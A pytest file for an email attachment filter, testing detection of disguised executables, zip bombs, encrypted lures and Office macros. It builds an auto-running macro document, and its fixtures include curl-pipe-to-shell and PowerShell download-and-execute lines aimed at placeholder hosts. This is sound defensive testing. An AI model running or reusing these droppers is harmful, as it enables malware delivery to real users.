"""Dangerous attachments: executables by content, scripts, archives (bounded), macros.

The macro documents are built here: no macro sample ships with the corpora, and olevba needs
a real VBA project. :func:`vba_project` writes one the way Office does — an OLE compound
file ([MS-CFB], version 3, every stream in the mini stream) holding ``PROJECT``,
``VBA/_VBA_PROJECT``, ``VBA/dir`` and one module stream, with ``dir`` and the module source
in the [MS-OVBA] §2.4.1 compressed format (literal tokens only, which is valid
compression) — and :func:`docm` wraps it in an Office Open XML package the way Word saves
a .docm. olevba then finds the module and its AutoOpen/Shell keywords.
"""

from __future__ import annotations

import io
import struct
import zipfile
from email.message import EmailMessage
from pathlib import Path

import setuptools

from harness import CORPORA
from postvern.filters import FilterSettings, ScanContext, analyse, decide
from postvern.filters.attachments import (
    MAX_ARCHIVE_DEPTH,
    gives_password,
    inspect_attachments,
    sniff_executable,
)
from postvern.filters.extract import Attachment
from postvern.filters.macros import check_macros

WINDOWS_EXE = Path(setuptools.__file__).parent / "cli-64.exe"  # a real PE file
LINUX_ELF = Path("/bin/true")
MACRO_SOURCE = (
    'Attribute VB_Name = "Module1"\r\n'
    "Sub AutoOpen()\r\n"
    '    Shell "cmd.exe /c calc.exe", vbHide\r\n'
    "End Sub\r\n"
)

# -- building blocks ----------------------------------------------------------------


def message_with(*files: tuple[str, bytes, str]) -> bytes:
    msg = EmailMessage()
    msg["From"] = "Alice <alice@example.org>"
    msg["To"] = "bob@example.test"
    msg["Subject"] = "the documents you asked for"
    msg.set_content("Hello Bob,\n\nplease find the files attached.\n\nAlice\n")
    for name, data, ctype in files:
        maintype, subtype = ctype.split("/")
        msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return msg.as_bytes()


def zipped(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def ovba_compress(data: bytes) -> bytes:
    """[MS-OVBA] §2.4.1 CompressedContainer of literal tokens (one chunk, < 3.6 KB)."""
    assert len(data) <= 3600
    body = b""
    for i in range(0, len(data), 8):
        body += b"\x00" + data[i : i + 8]  # FlagByte 0: the next 8 tokens are literals
    header = (len(body) + 2 - 3) | (0b011 << 12) | (1 << 15)  # size-3, signature, compressed
    return b"\x01" + struct.pack("<H", header) + body


def _record(rid: int, data: bytes) -> bytes:
    return struct.pack("<HI", rid, len(data)) + data


def vba_dir_stream(module: str) -> bytes:
    """The decompressed ``dir`` stream ([MS-OVBA] §2.3.4.2) for one procedural module."""
    name = module.encode()
    uname = module.encode("utf-16-le")
    info = b"".join(
        [
            _record(0x0001, struct.pack("<I", 1)),  # PROJECTSYSKIND: 32-bit Windows
            _record(0x0002, struct.pack("<I", 0x409)),  # PROJECTLCID
            _record(0x0014, struct.pack("<I", 0x409)),  # PROJECTLCIDINVOKE
            _record(0x0003, struct.pack("<H", 1252)),  # PROJECTCODEPAGE
            _record(0x0004, b"VBAProject"),  # PROJECTNAME
            _record(0x0005, b"") + _record(0x0040, b""),  # PROJECTDOCSTRING (+unicode)
            _record(0x0006, b"") + _record(0x003D, b""),  # PROJECTHELPFILEPATH (1 and 2)
            _record(0x0007, struct.pack("<I", 0)),  # PROJECTHELPCONTEXT
            _record(0x0008, struct.pack("<I", 0)),  # PROJECTLIBFLAGS
            struct.pack("<HIIH", 0x0009, 4, 1, 0),  # PROJECTVERSION (reserved=4, 1.0)
            _record(0x000C, b"") + _record(0x003C, b""),  # PROJECTCONSTANTS (+unicode)
        ]
    )
    modules = b"".join(
        [
            struct.pack("<HIH", 0x000F, 2, 1),  # PROJECTMODULES: one module
            struct.pack("<HIH", 0x0013, 2, 0xFFFF),  # PROJECTCOOKIE
            _record(0x0019, name),  # MODULENAME
            _record(0x0047, uname),  # MODULENAMEUNICODE
            _record(0x001A, name) + _record(0x0032, uname),  # MODULESTREAMNAME (+unicode)
            _record(0x001C, b"") + _record(0x0048, b""),  # MODULEDOCSTRING (+unicode)
            _record(0x0031, struct.pack("<I", 0)),  # MODULEOFFSET: source at offset 0
            _record(0x001E, struct.pack("<I", 0)),  # MODULEHELPCONTEXT
            _record(0x002C, struct.pack("<H", 0xFFFF)),  # MODULECOOKIE
            struct.pack("<HI", 0x0021, 0),  # MODULETYPE: procedural
            struct.pack("<HI", 0x002B, 0),  # MODULE terminator
            struct.pack("<HI", 0x0010, 0),  # dir stream terminator
        ]
    )
    return info + modules


_FREE, _END, _FATSECT, _NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def _dir_entry(
    name: str, kind: int, left: int, right: int, child: int, start: int, size: int
) -> bytes:
    encoded = name.encode("utf-16-le") + b"\x00\x00" if name else b""
    return struct.pack(
        "<64sHBBIII16sIQQIQ",
        encoded,
        len(encoded),
        kind,
        1,  # black: a valid (if unbalanced) red-black tree
        left,
        right,
        child,
        b"\x00" * 16,
        0,
        0,
        0,
        start,
        size,
    )


def vba_project(source: str = MACRO_SOURCE) -> bytes:
    """An OLE compound file holding a VBA project with one module (a vbaProject.bin)."""
    project = (
        b'ID="{00000000-0000-0000-0000-000000000000}"\r\nModule=Module1\r\n'
        b'Name="VBAProject"\r\nHelpContextID="0"\r\nVersionCompatible32="393222000"\r\n'
        b"\r\n[Host Extender Info]\r\n"
        b"&H00000001={3832D640-CF90-11CF-8E43-00A0C911005A};VBE;&H00000000\r\n"
    )
    streams = {  # directory order: 2 PROJECT, 3 dir, 4 Module1, 5 _VBA_PROJECT
        "PROJECT": project,
        "dir": ovba_compress(vba_dir_stream("Module1")),
        "Module1": ovba_compress(source.encode("cp1252")),
        "_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
    }
    mini = b""
    minifat: list[int] = []
    placed: dict[str, tuple[int, int]] = {}
    for name, data in streams.items():
        first = len(minifat)
        count = (len(data) + 63) // 64
        minifat += [first + i + 1 for i in range(count - 1)] + [_END]
        mini += data + b"\x00" * (count * 64 - len(data))
        placed[name] = (first, len(data))
    minifat += [_FREE] * (-len(minifat) % 128)
    # Sectors: 0 FAT, 1-2 directory (6 entries of 128 bytes), then MiniFAT, then mini stream.
    dir_start, minifat_start = 1, 3
    minifat_sectors = len(minifat) // 128
    mini_start = minifat_start + minifat_sectors
    mini_sectors = (len(mini) + 511) // 512
    fat = [_FATSECT, 2, _END]
    fat += [minifat_start + i + 1 for i in range(minifat_sectors - 1)] + [_END]
    fat += [mini_start + i + 1 for i in range(mini_sectors - 1)] + [_END]
    fat += [_FREE] * (128 - len(fat))
    entries = [
        _dir_entry("Root Entry", 5, _NOSTREAM, _NOSTREAM, 2, mini_start, len(mini)),
        _dir_entry("VBA", 1, _NOSTREAM, _NOSTREAM, 4, 0, 0),
        _dir_entry("PROJECT", 2, 1, _NOSTREAM, _NOSTREAM, *placed["PROJECT"]),
        _dir_entry("dir", 2, _NOSTREAM, _NOSTREAM, _NOSTREAM, *placed["dir"]),
        _dir_entry("Module1", 2, 3, 5, _NOSTREAM, *placed["Module1"]),
        _dir_entry("_VBA_PROJECT", 2, _NOSTREAM, _NOSTREAM, _NOSTREAM, *placed["_VBA_PROJECT"]),
    ]
    entries += [_dir_entry("", 0, _NOSTREAM, _NOSTREAM, _NOSTREAM, 0, 0)] * (-len(entries) % 4)
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"\x00" * 16,
        0x003E,  # minor version
        0x0003,  # major version 3: 512-byte sectors
        0xFFFE,  # little-endian
        9,  # sector shift: 512
        6,  # mini sector shift: 64
        b"\x00" * 6,
        0,  # directory sectors (must be 0 in version 3)
        1,  # FAT sectors
        dir_start,
        0,  # transaction signature
        4096,  # mini stream cutoff
        minifat_start,
        minifat_sectors,
        _END,  # no DIFAT sectors
        0,
    ) + struct.pack("<109I", 0, *([_FREE] * 108))
    body = struct.pack("<128I", *fat) + b"".join(entries)
    body += struct.pack(f"<{len(minifat)}I", *minifat)
    body += mini + b"\x00" * (mini_sectors * 512 - len(mini))
    return header + body


def docm(source: str = MACRO_SOURCE) -> bytes:
    """A Word macro-enabled document (.docm) carrying :func:`vba_project`."""
    ns = "http://schemas.openxmlformats.org"
    return zipped(
        {
            "[Content_Types].xml": (
                '<?xml version="1.0" encoding="UTF-8"?>'
                f'<Types xmlns="{ns}/package/2006/content-types">'
                '<Default Extension="rels" '
                'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                '<Default Extension="xml" ContentType="application/xml"/>'
                '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                '<Override PartName="/word/document.xml" '
                'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
                "</Types>"
            ).encode(),
            "_rels/.rels": (
                f'<Relationships xmlns="{ns}/package/2006/relationships">'
                f'<Relationship Id="rId1" Target="word/document.xml" '
                f'Type="{ns}/officeDocument/2006/relationships/officeDocument"/>'
                "</Relationships>"
            ).encode(),
            "word/document.xml": (
                f'<w:document xmlns:w="{ns}/wordprocessingml/2006/main">'
                "<w:body><w:p><w:r><w:t>Invoice</w:t></w:r></w:p></w:body></w:document>"
            ).encode(),
            "word/_rels/document.xml.rels": (
                f'<Relationships xmlns="{ns}/package/2006/relationships">'
                '<Relationship Id="rId9" Target="vbaProject.bin" '
                'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"/>'
                "</Relationships>"
            ).encode(),
            "word/vbaProject.bin": vba_project(source),
        }
    )


def findings_of(raw: bytes, policy: str = "reject") -> tuple[list[str], str]:
    ctx = ScanContext(settings=FilterSettings(attachment_policy=policy))  # type: ignore[arg-type]
    analysis = analyse(raw, ctx)
    verdict = decide(analysis, ctx.settings)
    return [str(f) for f in analysis.findings if f.dangerous], verdict.action


# -- executables by content -----------------------------------------------------------


def test_exe_renamed_pdf_is_caught_and_rejected() -> None:
    raw = message_with(("invoice.pdf", WINDOWS_EXE.read_bytes(), "application/pdf"))
    found, action = findings_of(raw)
    assert found == ["invoice.pdf: PE executable (Windows)"]
    assert action == "reject"


def test_quarantine_policy_sends_to_junk() -> None:
    raw = message_with(("invoice.pdf", WINDOWS_EXE.read_bytes(), "application/pdf"))
    found, action = findings_of(raw, policy="quarantine")
    assert found and action == "junk"


def test_elf_inside_zip_is_caught() -> None:
    archive = zipped({"docs/readme.txt": b"nothing to see", "docs/update": LINUX_ELF.read_bytes()})
    found, action = findings_of(message_with(("docs.zip", archive, "application/zip")))
    assert found == ["docs.zip > docs/update: ELF executable"]
    assert action == "reject"


def test_nested_zip_reports_the_path() -> None:
    inner = zipped({"setup.scr": WINDOWS_EXE.read_bytes()})
    outer = zipped({"inner.zip": inner})
    found, _ = findings_of(message_with(("outer.zip", outer, "application/zip")))
    assert found == ["outer.zip > inner.zip > setup.scr: PE executable (Windows)"]


def test_archive_nesting_is_bounded() -> None:
    data = zipped({"payload.bin": LINUX_ELF.read_bytes()})
    for level in range(MAX_ARCHIVE_DEPTH + 2):
        data = zipped({f"level{level}.zip": data})
    findings = inspect_attachments([Attachment("deep.zip", "application/zip", data)])
    assert any(f.kind == "archive nested too deep to inspect" for f in findings)


def test_zip_bomb_is_recognised_not_expanded() -> None:
    bomb = zipped({"disk.img": b"\x00" * (8 * 1024 * 1024)})
    assert len(bomb) < 64 * 1024
    findings = inspect_attachments([Attachment("backup.zip", "application/zip", bomb)])
    assert [f.kind for f in findings] == ["zip bomb (compression ratio)"]
    assert findings[0].dangerous


def test_huge_central_directory_is_refused_before_parsing() -> None:
    archive = zipped({f"f{i}.txt": b"x" for i in range(1200)}, zipfile.ZIP_STORED)
    findings = inspect_attachments([Attachment("many.zip", "application/zip", archive)])
    assert [f.kind for f in findings] == ["archive too large to inspect"]


def test_encrypted_member_with_executable_name() -> None:
    archive = bytearray(zipped({"invoice.exe": b"ciphertext"}, zipfile.ZIP_STORED))
    # Set the "encrypted" general-purpose flag in the local and central headers.
    for sig in (b"PK\x03\x04", b"PK\x01\x02"):
        at = archive.find(sig)
        flag_at = at + (6 if sig == b"PK\x03\x04" else 8)
        archive[flag_at] |= 1
    findings = inspect_attachments([Attachment("x.zip", "application/zip", bytes(archive))])
    assert [(f.kind, f.dangerous) for f in findings] == [("encrypted archive member", True)]


# -- encrypted attachments and the password beside them ---------------------------------


def pdf(*, encrypted: bool) -> bytes:
    """A one-page PDF; *encrypted* adds the Standard security handler's dictionary and
    names it in the trailer (ISO 32000-1 §7.6.3), as every encrypting writer does."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
    ]
    if encrypted:
        objects.append(
            b"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -3904 "
            b"/O <" + b"a1" * 32 + b"> /U <" + b"b2" * 32 + b"> >>"
        )
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    encrypt = b" /Encrypt 4 0 R /ID [<01><01>]" if encrypted else b""
    out += b"trailer\n<< /Size %d /Root 1 0 R%s >>\n" % (len(objects) + 1, encrypt)
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def message_saying(text: str, *files: tuple[str, bytes, str]) -> bytes:
    msg = EmailMessage()
    msg["From"] = "Faturas <faturas@example.org>"
    msg["To"] = "bob@example.test"
    msg["Subject"] = "Fatura emitida"
    msg.set_content(text)
    for name, data, ctype in files:
        maintype, subtype = ctype.split("/")
        msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return msg.as_bytes()


def hit_codes(raw: bytes) -> set[str]:
    ctx = ScanContext(settings=FilterSettings(), macro_checker=None)
    return {h.code for h in analyse(raw, ctx).hits}


def test_encrypted_pdf_is_recognised_and_a_plain_one_is_not() -> None:
    findings = inspect_attachments([Attachment("f.pdf", "application/pdf", pdf(encrypted=True))])
    assert [(f.kind, f.dangerous, f.encrypted) for f in findings] == [
        ("encrypted PDF", False, True)
    ]
    plain = pdf(encrypted=False) + b"% the word /Encrypt in a comment is not a dictionary\n"
    assert inspect_attachments([Attachment("f.pdf", "application/pdf", plain)]) == []


def test_password_given_beside_an_encrypted_attachment() -> None:
    locked = ("fatura.pdf", pdf(encrypted=True), "application/pdf")
    given = hit_codes(message_saying("Veja a fatura em anexo.\nSenha do PDF: 2020\n", locked))
    assert {"SUSPICIOUS_ATTACHMENT", "ATTACHMENT_PASSWORD_GIVEN"} <= given
    # A hint about the password is what a bank sends with a locked statement: the file is
    # still unreadable to scanners, but the password did not travel with it.
    hint = "Your statement is attached.\nPassword: your date of birth (DDMMYYYY).\n"
    hinted = hit_codes(message_saying(hint, locked))
    assert "SUSPICIOUS_ATTACHMENT" in hinted
    assert "ATTACHMENT_PASSWORD_GIVEN" not in hinted
    # A password with nothing encrypted to open is not this trick.
    open_pdf = ("fatura.pdf", pdf(encrypted=False), "application/pdf")
    assert "ATTACHMENT_PASSWORD_GIVEN" not in hit_codes(
        message_saying("Wi-Fi password: guest2024\n", open_pdf)
    )


def test_password_given_beside_an_encrypted_zip_member() -> None:
    archive = bytearray(zipped({"invoice.doc": b"ciphertext"}, zipfile.ZIP_STORED))
    for sig, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        archive[archive.find(sig) + offset] |= 1
    raw = message_saying(
        "Invoice attached. Pass: 7731\n", ("inv.zip", bytes(archive), "application/zip")
    )
    assert "ATTACHMENT_PASSWORD_GIVEN" in hit_codes(raw)


def test_what_counts_as_a_password_given() -> None:
    for text in (
        "Senha do PDF: 2020.",
        "Senha de acesso: 123",
        "Password for the attachment: Inv2024",
        "Passwort: 4711",
        "Contraseña: 0204",
        "пароль: 5566",
    ):
        assert gives_password(text), text
    for text in (
        "Password: your date of birth",  # a hint, no value
        "Your password will expire: change it at 10:30",  # no digit right after the colon
        "passenger: 123",  # not the word
        "Password\n: 123",  # the value is not on the line
    ):
        assert not gives_password(text), text


def test_phishing_with_locked_pdfs_from_the_corpus_is_recognised() -> None:
    """Real lures (phishing_pot): an encrypted PDF and its password in the body."""
    folder = CORPORA / "phishing" / "phishing_pot"
    for name in ("sample-1334.eml", "sample-1942.eml", "sample-3138.eml", "sample-716.eml"):
        assert "ATTACHMENT_PASSWORD_GIVEN" in hit_codes((folder / name).read_bytes()), name


def test_magic_numbers() -> None:
    macho_fat = b"\xca\xfe\xba\xbe" + struct.pack(">I", 2) + b"\x00" * 56
    java_class = b"\xca\xfe\xba\xbe" + struct.pack(">HH", 0, 61) + b"\x00" * 56
    lnk = bytes.fromhex("4c0000000114020000000000c000000000000046") + b"\x00" * 60
    assert sniff_executable(WINDOWS_EXE.read_bytes()) == "PE executable (Windows)"
    assert sniff_executable(LINUX_ELF.read_bytes()) == "ELF executable"
    assert sniff_executable(b"\xcf\xfa\xed\xfe" + b"\x00" * 60) == "Mach-O executable"
    assert sniff_executable(macho_fat) == "Mach-O universal binary"
    assert sniff_executable(java_class) == "Java class file"
    assert sniff_executable(lnk) == "Windows shortcut (.lnk)"
    assert sniff_executable(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n") is None


def test_scripts_by_content() -> None:
    scripts = {
        "notes.txt": b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n",
        "report.pdf": b'$c = New-Object Net.WebClient\nIEX ($c.DownloadString("http://x/y"))\n',
        "letter.doc": b'Set s = CreateObject("WScript.Shell")\ns.Run "calc.exe"\n',
        "readme": b"@echo off\r\nset p=%~dp0\r\nstart /b %p%run.exe\r\ngoto :eof\r\n",
        "data.csv": b'var sh = new ActiveXObject("WScript.Shell"); sh.Run("cmd /c calc");\n',
    }
    expected = {
        "notes.txt": "script (/bin/sh)",
        "report.pdf": "PowerShell script",
        "letter.doc": "VBScript",
        "readme": "batch script",
        "data.csv": "JScript (Windows Script Host)",
    }
    for name, data in scripts.items():
        found = inspect_attachments([Attachment(name, "application/octet-stream", data)])
        assert [f.kind for f in found] == [expected[name]], name


def test_ordinary_attachments_pass() -> None:
    text = b"Quarterly figures\n\nRevenue rose 4% on the year; costs fell.\n" * 20
    csv = b"name,amount\nalice,10\nbob,20\n"
    html = b"<html><body><p>Menu</p><script>var x = 1; function f() { return x; }</script>"
    raw = message_with(
        ("figures.txt", text, "text/plain"),
        ("amounts.csv", csv, "text/csv"),
        ("menu.html", html, "text/html"),
        ("archive.zip", zipped({"a.txt": text, "b.csv": csv}), "application/zip"),
    )
    found, action = findings_of(raw)
    assert found == [] and action == "inbox"


# -- Office macros ---------------------------------------------------------------------


def test_vba_project_builder_is_read_by_olevba() -> None:
    report = check_macros(vba_project())
    assert report.error is None
    assert report.has_macros
    assert "AutoOpen" in report.autoexec
    assert "Shell" in report.suspicious


def test_macro_word_document_is_caught() -> None:
    raw = message_with(("invoice.docx", docm(), "application/octet-stream"))
    found, action = findings_of(raw)
    assert len(found) == 1
    assert found[0].startswith("invoice.docx: Office document with macros (AutoOpen")
    assert action == "reject"


def test_macro_in_ole_document_inside_zip_is_caught() -> None:
    archive = zipped({"Q3/figures.xls": vba_project()})
    found, _ = findings_of(message_with(("q3.zip", archive, "application/zip")))
    assert len(found) == 1 and found[0].startswith("q3.zip > Q3/figures.xls: Office document")


def test_document_without_macros_passes() -> None:
    plain = zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})
    found, action = findings_of(message_with(("report.docx", plain, "application/octet-stream")))
    assert found == [] and action == "inbox"


def test_macro_checker_survives_garbage() -> None:
    report = check_macros(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 2000)
    assert not report.has_macros
    assert report.error
